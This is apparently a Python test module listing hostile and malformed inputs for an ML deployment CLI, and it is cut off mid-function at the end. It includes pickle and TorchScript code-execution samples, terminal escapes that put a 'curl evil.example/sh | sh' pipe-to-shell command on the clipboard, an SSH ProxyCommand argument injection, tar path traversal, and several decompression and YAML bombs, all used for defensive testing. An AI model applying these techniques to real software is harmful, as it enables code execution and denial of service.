"""The bad-input table: each row is a case a user can hit, the command, and what they must see.

This list is the single source of the README's "Bad input and faults" table
(`python -m tests.bad_input_cases` prints it) and of tests/test_bad_inputs.py, which runs every
row through the real CLI entry point and checks: the exit code, one line on stderr naming the
file/node/tensor, no traceback, and nothing half-written in --out.
"""

from __future__ import annotations

import json
import os
import pickle
import tarfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np
import onnx

from tests.helpers import tiny_conv_model


@dataclass
class Case:
    id: str
    what: str  # the user's mistake, for the README table
    setup: Callable[[Path], list[str]]  # builds files under tmp, returns CLI args
    expect: tuple[str, ...]  # fragments of the one-line message
    exit_code: int = 2


def _model(tmp: Path, model: onnx.ModelProto | None = None, name: str = "model.onnx") -> Path:
    path = tmp / name
    onnx.save(model or tiny_conv_model(), str(path))
    return path


def _calib(tmp: Path, array=None, name: str = "calib.npz", key: str = "x", **extra) -> Path:
    path = tmp / name
    data = array if array is not None else np.random.default_rng(0).standard_normal((8, 3, 8, 8)).astype(np.float32)
    np.savez(path, **{key: data}, **extra)
    return path


def _build(tmp: Path, model: Path, calib: Path, target: str = "jetson", *extra: str) -> list[str]:
    return ["build", "--model", str(model), "--target", target, "--calib", str(calib), "--out", str(tmp / "out"), *extra]


def no_inputs(tmp):
    from tests.shape_models import no_inputs as model_without_inputs

    return _build(tmp, _model(tmp, model_without_inputs()), _calib(tmp))


def zero_stride(tmp):
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 3, 8, 8])
    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 3, None, None])
    pool = onnx.helper.make_node("MaxPool", ["x"], ["y"], kernel_shape=[2, 2], strides=[0, 1], name="pool")
    model = onnx.helper.make_model(onnx.helper.make_graph([pool], "g", [x], [y]),
                                   opset_imports=[onnx.helper.make_opsetid("", 17)])
    return _build(tmp, _model(tmp, model), _calib(tmp, np.zeros((2, 3, 8, 8), np.float32)))


def truncated_onnx(tmp):
    path = tmp / "model.onnx"
    path.write_bytes(tiny_conv_model().SerializeToString()[:41])
    return _build(tmp, path, _calib(tmp))


def garbage_onnx(tmp):
    path = tmp / "model.onnx"
    path.write_bytes(b"PK\x03\x04 this is a zip, not a model" * 3)
    return _build(tmp, path, _calib(tmp))


def external_data_missing(tmp):
    path = tmp / "model.onnx"
    onnx.save(tiny_conv_model(), str(path), save_as_external_data=True, all_tensors_to_one_file=True,
              location="weights.bin", size_threshold=0)
    (tmp / "weights.bin").unlink()
    return _build(tmp, path, _calib(tmp))


def external_data_outside(tmp):
    """An initializer whose external data is a symlink to a file outside the model's folder."""
    (tmp / "secret.txt").write_bytes(b"0123456789abcdef" * 64)
    folder = tmp / "model"
    folder.mkdir()
    path = folder / "model.onnx"
    onnx.save(tiny_conv_model(), str(path), save_as_external_data=True, all_tensors_to_one_file=True,
              location="weights.bin", size_threshold=0)
    (folder / "weights.bin").unlink()
    (folder / "weights.bin").symlink_to(tmp / "secret.txt")
    return _build(tmp, path, _calib(tmp))


def _constant_with_external_value(folder: Path, length: int | None = 432) -> Path:
    """tiny_conv_model whose conv weight is a Constant node's value stored as external data."""
    model = tiny_conv_model()
    weight = model.graph.initializer[0]
    value = onnx.TensorProto()
    value.CopyFrom(weight)
    value.ClearField("raw_data")
    value.ClearField("float_data")
    value.data_location = onnx.TensorProto.EXTERNAL
    value.external_data.add(key="location", value="weights.bin")
    if length is not None:
        value.external_data.add(key="length", value=str(length))
    del model.graph.initializer[0]
    model.graph.node.insert(0, onnx.helper.make_node("Constant", [], [weight.name], value=value, name="weight"))
    folder.mkdir()
    onnx.save(model, str(folder / "model.onnx"))
    return folder / "model.onnx"


def constant_external_outside(tmp):
    """A Constant node (not an initializer) whose value is external data linked to a file outside."""
    (tmp / "secret.txt").write_bytes(b"0123456789abcdef" * 64)
    path = _constant_with_external_value(tmp / "model")
    (tmp / "model" / "weights.bin").symlink_to(tmp / "secret.txt")
    return _build(tmp, path, _calib(tmp))


def external_data_sparse_file(tmp):
    """External data without a length in a 64 GB sparse file: onnx reads to the end of the file."""
    path = _constant_with_external_value(tmp / "model", length=None)
    with open(tmp / "model" / "weights.bin", "wb") as handle:
        handle.truncate(64 << 30)
    return _build(tmp, path, _calib(tmp))


def image_pixel_bomb(tmp):
    """A 60-byte PNG whose header declares 40000 x 40000 pixels (4.8 GB decoded)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    folder = tmp / "calib"
    folder.mkdir()
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 40000, 40000, 8, 2, 0, 0, 0))
    (folder / "huge.png").write_bytes(b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0" * 64))
                                      + chunk(b"IEND", b""))
    return _build(tmp, _model(tmp), folder)


def pickled_npz(tmp):
    """An .npz whose member is an object array: loading it with pickles allowed would run code."""
    data = np.empty(8, dtype=object)
    data[:] = [_FileWriter(tmp / "out")] * 8
    np.savez(tmp / "calib.npz", x=data)
    return _build(tmp, _model(tmp), tmp / "calib.npz")


def unsupported_op(tmp):
    model = tiny_conv_model()
    model.graph.node.append(onnx.helper.make_node("FancyOp", ["y"], ["z"], name="fancy_node", domain="com.example"))
    model.graph.output[0].name = "z"
    model.opset_import.append(onnx.helper.make_opsetid("com.example", 1))
    return _build(tmp, _model(tmp, model), _calib(tmp))


TERMINAL_ESCAPES = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07\x1b[2K\x9b1A\u202e"  # clipboard, erase, RLO


def terminal_escapes_in_a_name(tmp):
    """A node name that writes `curl evil.example/sh | sh` to the clipboard (OSC 52), erases the line
    and reverses the text that follows, printed in the error that names the node."""
    model = tiny_conv_model()
    model.graph.node.append(onnx.helper.make_node("FancyOp", ["y"], ["z"], name="fancy" + TERMINAL_ESCAPES,
                                                  domain="com.example"))
    model.graph.output[0].name = "z"
    model.opset_import.append(onnx.helper.make_opsetid("com.example", 1))
    return _build(tmp, _model(tmp, model), _calib(tmp))


def nms_on_arm(tmp):
    """A detector exported with its non-maximum suppression, built for a target without one."""
    model = tiny_conv_model()
    del model.graph.node[1:]
    del model.graph.output[:]
    helper = onnx.helper
    model.graph.initializer.append(onnx.numpy_helper.from_array(np.array([1, 4, 64], np.int64), "as_rows"))
    model.graph.node.extend([
        helper.make_node("Reshape", ["c", "as_rows"], ["scores"], name="rows"),
        helper.make_node("Transpose", ["scores"], ["boxes"], name="boxes", perm=[0, 2, 1]),
        helper.make_node("NonMaxSuppression", ["boxes", "scores"], ["selected"], name="nms")])
    model.graph.output.append(helper.make_tensor_value_info("selected", onnx.TensorProto.INT64, ["n", 3]))
    return _build(tmp, _model(tmp, model), _calib(tmp), "arm-cpu")


def token_id_out_of_range(tmp):
    """A text model's calibration data from a tokenizer with a larger vocabulary than the model's."""
    helper = onnx.helper
    table = np.random.default_rng(0).standard_normal((10, 3)).astype(np.float32)
    graph_proto = helper.make_graph(
        [helper.make_node("Gather", ["table", "input_ids"], ["emb"], name="embedding"),
         helper.make_node("ReduceMean", ["emb"], ["y"], name="pool", axes=[1], keepdims=0)],
        "tokens", [helper.make_tensor_value_info("input_ids", onnx.TensorProto.INT64, [1, 4])],
        [helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 3])],
        [onnx.numpy_helper.from_array(table, "table")])
    model = helper.make_model(graph_proto, opset_imports=[helper.make_opsetid("", 17)])
    ids = np.random.default_rng(0).integers(0, 10, (8, 4))
    ids[2, 1] = 30522  # bert-base-uncased's vocabulary size
    return _build(tmp, _model(tmp, model), _calib(tmp, ids, key="input_ids"), "arm-cpu")


def qoperator_runtime_scale(tmp):
    """A QOperator model (QuantizeLinear -> QLinearConv -> DequantizeLinear) whose conv reads its input
    scale from a node, not a constant: no float conv can stand for it, so it stays and is named."""
    helper, from_array = onnx.helper, onnx.numpy_helper.from_array
    weights = np.random.default_rng(0).integers(-127, 128, size=(4, 3, 3, 3)).astype(np.int8)
    constants = {"x_scale": np.float32(0.05), "x_zero": np.uint8(128), "w": weights, "w_scale": np.float32(0.01),
                 "w_zero": np.int8(0), "y_scale": np.float32(0.1), "y_zero": np.uint8(128)}
    nodes = [helper.make_node("QuantizeLinear", ["x", "x_scale", "x_zero"], ["xq"], name="quantize"),
             helper.make_node("Identity", ["x_scale"], ["x_scale_at_run_time"], name="scale_copy"),
             helper.make_node("QLinearConv", ["xq", "x_scale_at_run_time", "x_zero", "w", "w_scale", "w_zero",
                                              "y_scale", "y_zero"], ["yq"], name="conv_quant", pads=[1, 1, 1, 1]),
             helper.make_node("DequantizeLinear", ["yq", "y_scale", "y_zero"], ["y"], name="dequantize")]
    graph = helper.make_graph(nodes, "qoperator", [helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 3, 8, 8])],
                              [helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 4, 8, 8])],
                              [from_array(np.asarray(v), k) for k, v in constants.items()])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    return _build(tmp, _model(tmp, model), _calib(tmp), "arm-cpu")


def dynamic_dim_no_shape(tmp):
    return _build(tmp, _model(tmp, tiny_conv_model(dynamic_batch=True)), _calib(tmp, key="other"))


def empty_folder(tmp):
    (tmp / "calib").mkdir()
    return _build(tmp, _model(tmp), tmp / "calib")


def _waveform_model() -> onnx.ModelProto:
    """audio [1, 64] -> MatMul -> [1, 4]: a model that takes raw samples."""
    helper = onnx.helper
    weight = onnx.numpy_helper.from_array(np.random.default_rng(0).standard_normal((64, 4)).astype(np.float32), "w")
    graph = helper.make_graph([helper.make_node("MatMul", ["audio", "w"], ["y"], name="mm")], "wave",
                              [helper.make_tensor_value_info("audio", onnx.TensorProto.FLOAT, [1, 64])],
                              [helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 4])], [weight])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


def truncated_wav(tmp):
    import wave

    folder = tmp / "calib"
    folder.mkdir()
    with wave.open(str(folder / "take.wav"), "wb") as out:
        out.setnchannels(1), out.setsampwidth(2), out.setframerate(16000)
        out.writeframes(np.zeros(640, np.int16).tobytes())
    raw = (folder / "take.wav").read_bytes()
    (folder / "take.wav").write_bytes(raw[:-600])  # a copy cut short: the header still declares 1280 bytes
    return _build(tmp, _model(tmp, _waveform_model()), folder, "arm-cpu")


def unreadable_image(tmp):
    folder = tmp / "calib"
    folder.mkdir()
    (folder / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\n not really")
    return _build(tmp, _model(tmp), folder)


def calib_link_to_root(tmp):
    folder = tmp / "calib"
    folder.mkdir()
    tiny = tmp / "tiny.png"
    from PIL import Image

    Image.new("RGB", (8, 8)).save(tiny)
    (folder / "a.png").write_bytes(tiny.read_bytes())
    (folder / "everything").symlink_to("/")
    return _build(tmp, _model(tmp), folder)


def out_inside_calib(tmp):
    folder = tmp / "calib"
    folder.mkdir()
    for index in range(4):
        np.save(folder / f"s{index}.npy", np.random.default_rng(index).standard_normal((1, 3, 8, 8)).astype(np.float32))
    return ["build", "--model", str(_model(tmp)), "--target", "arm-cpu", "--calib", str(folder), "--out",
            str(folder / "out")]


def cache_inside_out(tmp):
    (tmp / "edgepipe.yaml").write_text("target: jetson\ncache_dir: out/.cache\n")
    return ["build", "--model", str(_model(tmp)), "--calib", str(_calib(tmp)), "--out", str(tmp / "out")]


def wrong_shape(tmp):
    return _build(tmp, _model(tmp), _calib(tmp, np.zeros((8, 3, 9, 9), np.float32)))


def wrong_dtype(tmp):
    return _build(tmp, _model(tmp), _calib(tmp, np.array([["a"] * 3] * 8)))


def nan_values(tmp):
    data = np.random.default_rng(0).standard_normal((8, 3, 8, 8)).astype(np.float32)
    data[5, 0, 0, 0] = np.nan
    return _build(tmp, _model(tmp), _calib(tmp, data))


def float64_beyond_float32(tmp):
    data = np.random.default_rng(0).standard_normal((8, 3, 8, 8))  # float64, as numpy makes it
    data[3, 1, 2, 2] = 1e300
    return _build(tmp, _model(tmp), _calib(tmp, data))


def mismatched_names(tmp):
    return _build(tmp, _model(tmp), _calib(tmp, key="image"))


def labels_wrong_length(tmp):
    calib = _calib(tmp)
    eval_path = _calib(tmp, name="eval.npz", labels=np.arange(3))
    return _build(tmp, _model(tmp), calib, "jetson", "--eval", str(eval_path))


def unknown_config_key(tmp):
    (tmp / "edgepipe.yaml").write_text("target: jetson\ncalibration:\n  methd: entropy\n")
    return ["build", "--model", str(_model(tmp)), "--calib", str(_calib(tmp)), "--out", str(tmp / "out")]


def wrong_config_type(tmp):
    (tmp / "edgepipe.yaml").write_text("target: jetson\ncalibration:\n  rounds: four\n")
    return ["build", "--model", str(_model(tmp)), "--calib", str(_calib(tmp)), "--out", str(tmp / "out")]


def unknown_target(tmp):
    return _build(tmp, _model(tmp), _calib(tmp), "pdp-11")


def bad_factory(tmp):
    return ["build", "--model", "no_such_pkg_xyz.models:build", "--target", "jetson", "--calib", str(_calib(tmp)),
            "--input-shape", "x:1x3x8x8", "--out", str(tmp / "out")]


class _Exploit:
    def __reduce__(self):
        return (print, ("this must never run",))


def unsafe_checkpoint(tmp):
    ckpt = tmp / "evil.pt"
    ckpt.write_bytes(pickle.dumps({"weight": _Exploit()}))
    return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(ckpt), "--target", "jetson",
            "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")), "--out", str(tmp / "out")]


def checkpoint_zip_bomb(tmp):
    """A state_dict checkpoint whose data.pkl is deflated from 200 MB of padding (torch.save stores
    members uncompressed; torch.load would inflate it whole)."""
    import zipfile

    import torch

    torch.save({"weight": torch.zeros(4)}, tmp / "plain.pt")
    with zipfile.ZipFile(tmp / "plain.pt") as source, zipfile.ZipFile(tmp / "bomb.pt", "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info)
            out.writestr(info.filename, data + bytes(200 << 20) if info.filename.endswith("data.pkl") else data)
    return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(tmp / "bomb.pt"), "--target",
            "jetson", "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")),
            "--out", str(tmp / "out")]


def truncated_checkpoint(tmp):
    import torch

    from edgepipe.demo.model import build_demo

    torch.save(build_demo().state_dict(), tmp / "whole.pt")
    data = (tmp / "whole.pt").read_bytes()
    (tmp / "cut.pt").write_bytes(data[: len(data) // 2])
    return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(tmp / "cut.pt"), "--target",
            "jetson", "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")),
            "--out", str(tmp / "out")]


def model_is_a_folder(tmp):
    (tmp / "model.pt").mkdir()
    return ["build", "--model", str(tmp / "model.pt"), "--target", "jetson", "--input-shape", "x:1x3x8x8",
            "--calib", str(_calib(tmp)), "--out", str(tmp / "out")]


class _FileWriter:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (str(self.path), "w"))


def pickled_module(tmp):
    """torch.save(model) of an object whose unpickling would create a file: named, never loaded."""
    import torch

    torch.save({"model": _FileWriter(tmp / "out"), "epoch": 3}, tmp / "model.pt")
    return ["build", "--model", str(tmp / "model.pt"), "--target", "jetson", "--input-shape", "x:1x3x8x8",
            "--out", str(tmp / "bundle")]


def unsafe_export_program(tmp):
    """A .pt2 whose pickled sample inputs would create a file: torch.export.load falls back to
    weights_only=False for them."""
    import zipfile

    program = tmp / "evil.pt2"
    shipped = Path(__file__).parent / "gpu_saved" / "small_cnn.pt2"
    with zipfile.ZipFile(shipped) as source, zipfile.ZipFile(program, "w") as crafted:
        for item in source.infolist():
            data = source.read(item.filename)
            crafted.writestr(item, pickle.dumps(_FileWriter(tmp / "out")) if "sample_inputs" in item.filename else data)
    return ["build", "--model", str(program), "--target", "jetson", "--input-shape", "x:1x3x16x16",
            "--out", str(tmp / "bundle")]


def export_program_host_op(tmp):
    """A .pt2 whose graph gains an aten::from_file(shared=True) node: running the program (the
    export traces it) would create `tmp/out`. torch's deserializer accepts any torch.ops target."""
    import zipfile

    program = tmp / "mapped.pt2"
    shipped = Path(__file__).parent / "gpu_saved" / "small_cnn.pt2"
    with zipfile.ZipFile(shipped) as source, zipfile.ZipFile(program, "w") as crafted:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.endswith("models/model.json"):
                model = json.loads(data)
                graph = model["graph_module"]["graph"]
                graph["nodes"].insert(0, {
                    "target": "torch.ops.aten.from_file.default", "name": "mapped", "metadata": {},
                    "inputs": [{"name": "filename", "arg": {"as_string": str(tmp / "out")}, "kind": 1},
                               {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                               {"name": "size", "arg": {"as_int": 16}, "kind": 1}],
                    "outputs": [{"as_tensor": {"name": "mapped"}}], "is_hop_single_tensor_return": None})
                graph["tensor_values"]["mapped"] = {
                    "dtype": 7, "sizes": [{"as_int": 16}], "strides": [{"as_int": 1}], "requires_grad": False,
                    "device": {"type": "cpu"}, "storage_offset": {"as_int": 0}, "layout": 7}
                data = json.dumps(model).encode()
            crafted.writestr(item, data)
    return ["build", "--model", str(program), "--target", "jetson", "--input-shape", "x:1x3x16x16",
            "--calib", str(_calib(tmp, np.zeros((4, 3, 16, 16), np.float32))), "--out", str(tmp / "bundle")]


def _scripted_file_writer(tmp: Path, when: str) -> Path:
    """A TorchScript file made with torch.jit.script whose own code writes `tmp/out` (aten::save):
    at load time from `__setstate__` (torch.jit.load runs it), or while it is traced (forward)."""
    import torch

    class LoadWriter(torch.nn.Module):
        def __init__(self, path: str):
            super().__init__()
            self.path = path

        def forward(self, x):
            return x + 1

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.path, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.path, self.training = state[0], state[1]
            torch.ops.aten.save(torch.ones(2), state[0])

    from tests.fixture_models import FileWriter

    module = (LoadWriter if when == "load" else FileWriter)(str(tmp / "out"))
    path = tmp / f"{when}_writer.pt"
    torch.jit.script(module).save(str(path))
    return path


def torchscript_writes_at_load(tmp):
    return ["build", "--model", str(_scripted_file_writer(tmp, "load")), "--target", "jetson",
            "--input-shape", "x:1x4", "--calib", str(_calib(tmp, np.ones((4, 4), np.float32))),
            "--out", str(tmp / "bundle")]


def torchscript_writes_when_traced(tmp):
    return ["build", "--model", str(_scripted_file_writer(tmp, "forward")), "--target", "jetson",
            "--input-shape", "x:1x4", "--calib", str(_calib(tmp, np.ones((4, 4), np.float32))),
            "--out", str(tmp / "bundle")]


def torchscript_getattr_at_load(tmp):
    """The `__setstate__` writer with its call spelled `getattr(torch, "save")(...)`: torch.jit.load
    resolves it to aten::save, and no `.save` stands in the code text."""
    import zipfile

    plain, crafted = _scripted_file_writer(tmp, "load"), tmp / "getattr_writer.pt"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(crafted, "w") as out:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith(".py"):
                data = data.replace(b"torch.save(", b'getattr(torch, "save")(')
            out.writestr(info, data)
    return ["build", "--model", str(crafted), "--target", "jetson", "--input-shape", "x:1x4",
            "--calib", str(_calib(tmp, np.ones((4, 4), np.float32))), "--out", str(tmp / "bundle")]


def _npy_with_shape(path: Path, shape: str) -> Path:
    """A float32 .npy of 64 data bytes whose header declares `shape` as written (numpy would refuse to write it)."""
    import struct

    header = f"{{'descr': '<f4', 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * (118 - len(header)) + "\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + bytes(64))
    return path


def npy_negative_shape(tmp):
    """A .npy whose header declares a negative dim (numpy's own reader accepts the header)."""
    return _build(tmp, _model(tmp), _npy_with_shape(tmp / "calib.npy", "(-1, 3, 8, 8)"), "arm-cpu")


def torchscript_uppercase_code(tmp):
    """The `__setstate__` writer with its code member renamed `….PY`: torch's zip reader finds
    members without case, so torch.jit.load still compiles and runs it."""
    import zipfile

    plain, crafted = _scripted_file_writer(tmp, "load"), tmp / "upper_writer.pt"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(crafted, "w") as out:
        for info in source.infolist():
            name = info.filename[:-3] + ".PY" if info.filename.endswith(".py") else info.filename
            out.writestr(name, source.read(info))
    return ["build", "--model", str(crafted), "--target", "jetson", "--input-shape", "x:1x4",
            "--calib", str(_calib(tmp, np.ones((4, 4), np.float32))), "--out", str(tmp / "bundle")]


def _dynamic_size_model(tmp) -> Path:
    model = tiny_conv_model()
    for dim in model.graph.input[0].type.tensor_type.shape.dim[2:]:
        dim.dim_param = "size"
    return _model(tmp, model)


def input_shape_unicode_digit(tmp):
    """Python's int() reads the Arabic-Indic digit one as 1; a shape flag takes ASCII digits only."""
    return _build(tmp, _dynamic_size_model(tmp), _calib(tmp), "arm-cpu", "--input-shape", "x:1x3x\u0668x8")


def input_shape_overflow(tmp):
    return _build(tmp, _dynamic_size_model(tmp), _calib(tmp), "arm-cpu", "--input-shape",
                  "x:1x3x99999999999999999999x8")


def npy_shape_overflow(tmp):
    """A .npy header whose sample shape gives the dynamic dims a value past int64."""
    return _build(tmp, _dynamic_size_model(tmp), _npy_with_shape(tmp / "calib.npy", "(4, 3, 99999999999999999999, 8)"),
                  "arm-cpu")


def archive_deep_path(tmp):
    """A bundle archive whose member lies 3000 folders deep (extraction recursed past Python's limit)."""
    import io as _io

    with tarfile.open(tmp / "deep.tar.gz", "w:gz") as tar:
        info = tarfile.TarInfo("bundle/" + "/".join(["d"] * 3000) + "/x")
        info.size = 1
        tar.addfile(info, _io.BytesIO(b"1"))
    return ["verify", str(tmp / "deep.tar.gz")]


def missing_model(tmp):
    return ["build", "--model", str(tmp / "no_such_model.onnx"), "--target", "arm-cpu", "--out", str(tmp / "out")]


def bad_yaml(tmp):
    (tmp / "edgepipe.yaml").write_text("target: jetson\n  calib: [\n")
    return ["build"]


def tampered_bundle(tmp):
    bundle = tmp / "bundle"
    bundle.mkdir()
    (bundle / "model.bin").write_bytes(b"weights")
    import hashlib

    digest = hashlib.sha256(b"original weights").hexdigest()
    manifest = {"schema": 1, "files": [{"path": "model.bin", "size": 16, "sha256": digest}]}
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    return ["verify", str(bundle)]


def traversal_archive(tmp):
    archive = tmp / "evil.tar.gz"
    payload = tmp / "payload.txt"
    payload.write_text("x")
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(payload, arcname="../../escaped.txt")
    return ["verify", str(archive)]


def missing_baseline(tmp):
    candidate = tmp / "candidate.json"
    candidate.write_text(json.dumps({"schema": 1, "accuracy": {"top1": 0.9}, "latency_ms": {"p50": 1.0}}))
    return ["regress", "--baseline", str(tmp / "release-1.2.json"), "--candidate", str(candidate)]


def unreachable_host(tmp):
    bundle = tmp / "bundle"
    bundle.mkdir()
    (bundle / "run.py").write_text("print('hello')\n")
    import hashlib

    digest = hashlib.sha256((bundle / "run.py").read_bytes()).hexdigest()
    (bundle / "manifest.json").write_text(json.dumps({"schema": 1, "files": [{"path": "run.py", "size": 15, "sha256": digest}]}))
    manifest_digest = hashlib.sha256((bundle / "manifest.json").read_bytes()).hexdigest()
    (bundle / "SHA256SUMS").write_text(f"{manifest_digest}  manifest.json\n{digest}  run.py\n")
    return ["deploy", str(bundle), "--host", "edge@127.0.0.1", "--port", "9", "--timeout", "3"]


def dash_host(tmp):
    bundle = tmp / "bundle"
    bundle.mkdir()
    (bundle / "manifest.json").write_text(json.dumps({"schema": 1, "files": []}))
    return ["deploy", str(bundle), "--host", "-oProxyCommand=touch /tmp/pwned"]


# -- hostile input and faults (issue 12): each refused in one line before any work ----------
_RESULTS = {"schema": 1, "target": "arm-cpu", "where": "device", "accuracy": {"top1": 0.9},
            "latency_ms": {"p50": 1.0, "p90": 1.2, "p99": 1.5}}


def _results(tmp: Path, name: str, **changes) -> Path:
    path = tmp / name
    data = json.loads(json.dumps(_RESULTS))
    for dotted, value in changes.items():
        where = data
        *parents, last = dotted.split("__")
        for key in parents:
            where = where.setdefault(key, {})
        where[last] = value
    path.write_text(json.dumps(data))
    return path


def _regress(tmp: Path, baseline: Path) -> list[str]:
    return ["regress", "--baseline", str(baseline), "--candidate", str(_results(tmp, "candidate.json"))]


def out_is_user_folder(tmp):
    (tmp / "webapp").mkdir()
    (tmp / "webapp" / "manifest.json").write_text('{"name": "my web app", "files": []}')
    (tmp / "webapp" / "index.html").write_text("<h1>mine</h1>")
    return [*_build(tmp, _model(tmp), _calib(tmp))[:-2], "--out", str(tmp / "webapp")]


def fifo_config(tmp):
    os.mkfifo(tmp / "edgepipe.yaml")
    return ["build", "--config", str(tmp / "edgepipe.yaml")]


def device_file_config(tmp):
    return ["build", "--config", "/dev/zero"]


def fifo_calib(tmp):
    os.mkfifo(tmp / "calib.npz")
    return _build(tmp, _model(tmp), tmp / "calib.npz")


def yaml_duplicate_key(tmp):
    """The reviewed value first, the one PyYAML would keep further down."""
    (tmp / "edgepipe.yaml").write_text(f"model: {_model(tmp)}\ncalib: {_calib(tmp)}\ntarget: arm-cpu\n"
                                       "calibration:\n  method: minmax\n  rounds: 4\n  method: entropy\n")
    return ["build"]


def yaml_alias_bomb(tmp):
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
              for i in range(1, 10)]
    (tmp / "edgepipe.yaml").write_text("\n".join(lines) + "\n")
    return ["build"]


def deeply_nested_yaml(tmp):
    (tmp / "edgepipe.yaml").write_text("input_shapes: " + "[" * 5000 + "]" * 5000 + "\n")
    return ["build"]


def input_shape_not_list(tmp):
    (tmp / "edgepipe.yaml").write_text(f"model: {_model(tmp)}\ncalib: {_calib(tmp)}\ntarget: jetson\n"
                                       f"out: {tmp / 'out'}\ninput_shapes: {{x: 5}}\n")
    return ["build"]


def negative_zca_eps(tmp):
    (tmp / "edgepipe.yaml").write_text(f"model: {_model(tmp)}\ncalib: {_calib(tmp)}\ntarget: jetson\n"
                                       f"out: {tmp / 'out'}\nfold: {{input_normalization: zca, eps: -1}}\n")
    return ["build"]


def zero_iterations(tmp):
    (tmp / "edgepipe.yaml").write_text(f"model: {_model(tmp)}\ncalib: {_calib(tmp)}\ntarget: arm-cpu\n"
                                       f"out: {tmp / 'out'}\nreport: {{iterations: 0}}\nbackend: {{threads: -2}}\n")
    return ["build"]


def histogram_bins_bomb(tmp):
    (tmp / "edgepipe.yaml").write_text(f"model: {_model(tmp)}\ncalib: {_calib(tmp)}\ntarget: arm-cpu\n"
                                       f"out: {tmp / 'out'}\ncalibration: {{num_bins: 100000000000}}\n")
    return ["build"]


def profile_workspace_not_int(tmp):
    (tmp / "orin.yaml").write_text("name: orin\nbase: jetson\noptions: {workspace_mb: lots}\n")
    return _build(tmp, _model(tmp), _calib(tmp), str(tmp / "orin.yaml"))


def profile_negative_workspace(tmp):
    (tmp / "orin.yaml").write_text("name: orin\nbase: jetson\noptions: {workspace_mb: -1, dla_core: 0}\n")
    return _build(tmp, _model(tmp), _calib(tmp), str(tmp / "orin.yaml"))


def profile_threads_huge(tmp):
    (tmp / "board.yaml").write_text("name: board\nbase: arm-cpu\noptions: {threads: 100000000000000000000}\n")
    return _build(tmp, _model(tmp), _calib(tmp), str(tmp / "board.yaml"))


def profile_option_misspelled(tmp):
    """`thread: 4` for `threads: 4`: the build passed, the manifest kept it, the board ran 2 threads."""
    (tmp / "board.yaml").write_text("name: board\nbase: arm-cpu\noptions: {thread: 4}\n")
    return _build(tmp, _model(tmp), _calib(tmp), str(tmp / "board.yaml"))


def reshape_for_another_size(tmp):
    """A model exported at 8x8 whose Reshape holds that size as a constant, built with --input-shape
    16x16: ONNX Runtime fails running the Reshape (was an internal error in the fold stage, exit 3)."""
    from onnx import TensorProto, helper, numpy_helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3, "H", "W"])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 192])
    flat = numpy_helper.from_array(np.array([1, 192], np.int64), "flat")
    nodes = [helper.make_node("Relu", ["x"], ["r"], name="relu"),
             helper.make_node("Reshape", ["r", "flat"], ["y"], name="to_vector")]
    model = helper.make_model(helper.make_graph(nodes, "g", [x], [y], [flat]),
                              opset_imports=[helper.make_opsetid("", 17)])
    calib = _calib(tmp, np.random.default_rng(0).standard_normal((4, 3, 16, 16)).astype(np.float32))
    return _build(tmp, _model(tmp, model), calib, "jetson", "--input-shape", "x:1x3x16x16")


def labels_past_the_classes(tmp):
    """Labels 1..1000 (a one-based mapping) for a 5-class model: the report showed top-1 0.0000 for
    FP32 and int8 alike, with no reason."""
    labels = np.arange(1, 9, dtype=np.int64) * 125
    return _build(tmp, _model(tmp), _calib(tmp), "jetson", "--eval", str(_calib(tmp, name="eval.npz", labels=labels)))


def input_shape_twice(tmp):
    """The same input given two shapes (a script appending flags): the last one silently won."""
    return [*_build(tmp, _model(tmp, tiny_conv_model(dynamic_batch=True)), _calib(tmp)),
            "--input-shape", "x:1x3x8x8", "--input-shape", "x:4x3x8x8"]


def thin_image(tmp):
    """A 300-byte 1x60000 PNG for a 224x224 model: the crop-resize made a 224x13440000 image (3 GB)."""
    from onnx import TensorProto, helper
    from PIL import Image

